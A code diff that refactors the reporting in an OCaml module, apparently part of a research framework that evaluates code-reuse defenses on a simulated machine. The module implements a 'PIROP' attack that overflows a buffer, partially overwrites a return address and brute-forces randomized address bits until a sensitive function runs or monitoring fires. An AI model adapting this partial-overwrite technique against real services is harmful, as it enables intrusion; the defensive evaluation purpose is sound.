@@ -1,46 +1,30 @@
 open R2c_machine
 
-let name = "pirop"
-
-(* PIROP diverts control without choosing arguments: reaching the sensitive
-   sink at all (through handler_exec's legitimate body) is the win. *)
-let succeeded t = Oracle.sensitive_log t <> []
-
-let finish ?(notes = []) ~attempts t =
-  Report.make ~attack:name ~success:(succeeded t) ~detected:(Oracle.detected t)
-    ~crashes:(Oracle.crashes t) ~attempts ~notes ()
-
 let run ?(max_tries = 16) ?(monitor_threshold = 1) ~reference:(r : Reference.t) ~target:t () =
-  let notes = ref [] in
-  let note fmt = Printf.ksprintf (fun s -> notes := s :: !notes) fmt in
-  let attempts = ref 0 in
+  let tl = Report.tally t in
+  (* PIROP diverts control without choosing arguments: reaching the
+     sensitive sink at all (through handler_exec's legitimate body) is the
+     win. *)
+  let succeeded () = Oracle.sensitive_log t <> [] in
   let overwrite_len = r.ra_off - r.buf_off + 2 in
   let rec try_slide_bits k =
-    if k >= max_tries then finish ~attempts:!attempts ~notes:(List.rev !notes) t
-    else if Oracle.detections t >= monitor_threshold then begin
-      note "monitoring response (booby trap fired)";
-      finish ~attempts:!attempts ~notes:(List.rev !notes) t
-    end
-    else if succeeded t then finish ~attempts:!attempts ~notes:(List.rev !notes) t
-    else begin
-      incr attempts;
+    if k >= max_tries then ()
+    else if Oracle.detections t >= monitor_threshold then
+      Report.note tl "monitoring response (booby trap fired)"
+    else if not (succeeded ()) then begin
+      Report.attempt tl;
       let low16 = (r.exec_low16 + (k * 0x1000)) land 0xffff in
       let payload = Payload.fill (overwrite_len - 2) ^ Payload.le16 low16 in
-      let proceed () =
-        Oracle.send t payload;
-        let (_ : Process.outcome) = Oracle.resume_to_end t in
-        if succeeded t then finish ~attempts:!attempts ~notes:(List.rev !notes) t
-        else if Oracle.restart t then try_slide_bits (k + 1)
-        else begin
-          note "worker does not restart";
-          finish ~attempts:!attempts ~notes:(List.rev !notes) t
-        end
-      in
       match Oracle.to_break t with
-      | `Break -> proceed ()
-      | `Done o ->
-          note "service loop gone: %s" (Process.outcome_to_string o);
-          finish ~attempts:!attempts ~notes:(List.rev !notes) t
+      | `Break ->
+          Oracle.send t payload;
+          let (_ : Process.outcome) = Oracle.resume_to_end t in
+          if not (succeeded ()) then begin
+            Oracle.restart t;
+            try_slide_bits (k + 1)
+          end
+      | `Done o -> Report.note tl "service loop gone: %s" (Process.outcome_to_string o)
     end
   in
-  try_slide_bits 0
+  try_slide_bits 0;
+  Report.of_tally ~success:(succeeded ()) tl
